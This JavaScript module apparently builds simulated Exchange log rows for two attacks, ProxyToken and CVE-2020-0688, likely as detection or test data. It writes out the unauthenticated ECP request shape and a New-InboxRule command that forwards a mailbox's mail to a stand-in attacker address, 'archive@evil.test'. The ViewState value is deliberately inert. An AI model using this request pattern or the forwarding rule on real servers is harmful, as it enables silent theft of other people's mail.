// Two attacks of few on few, as rows: a rule set in a mailbox without a log-on (ProxyToken), and the state of a page in the address
// (CVE-2020-0688). The state is invented: its bytes say "inert example" and no key signs it.

import { domain, ecpCommand, exchangeRequest, netbios } from './organisation.mjs';

/** A rule that forwards mail, asked for by nobody who had logged on. The error comes after the rule is made. */
export function ruleWithoutLogOn(world, { ms, client, agent, mailbox, status = 500, made = true }) {
  const stem = `/ecp/${mailbox}@${domain}/RulesEditor/InboxRules.svc/NewObject`;
  const query = `msExchEcpCanary=${world.random.letters(40)}.`;
  const asked = exchangeRequest(world, {
    ms,
    front: world.front[0],
    protocol: 'Ecp',
    method: 'POST',
    stem,
    query,
    backStem: stem,
    backQuery: query,
    client,
    agent,
    status,
    anchor: `ExplicitLogon-SMTP~${mailbox}@${domain}`,
    hint: 'ExplicitLogon-SMTP',
  });
  if (asked === undefined || !made) return;
  ecpCommand(world, world.back, ms - 70, {
    command: `New-InboxRule.ForwardTo='archive@evil.test'.Name='.'.Mailbox='${mailbox}@${domain}'`,
    url: `${stem}?${query}`,
    activity: asked.activity,
  });
}

const state = `%2fwEy${Buffer.from('inert example, signed with nothing '.repeat(4)).toString('base64').replaceAll('=', '')}`;

/** A page of the control panel asked with its state in the address. */
export const stateInAddress = (world, { ms, client, agent, user, status }) =>
  exchangeRequest(world, {
    ms,
    front: world.front[0],
    protocol: 'Ecp',
    method: 'GET',
    stem: '/ecp/default.aspx',
    query: `__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=${state}`,
    backStem: status === 302 ? undefined : '/ecp/default.aspx',
    backQuery: status === 302 ? undefined : `__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=${state}`,
    user: user === undefined ? undefined : `${netbios}\\${user}`,
    client,
    agent,
    status,
    authentication: 'FBA',
  });
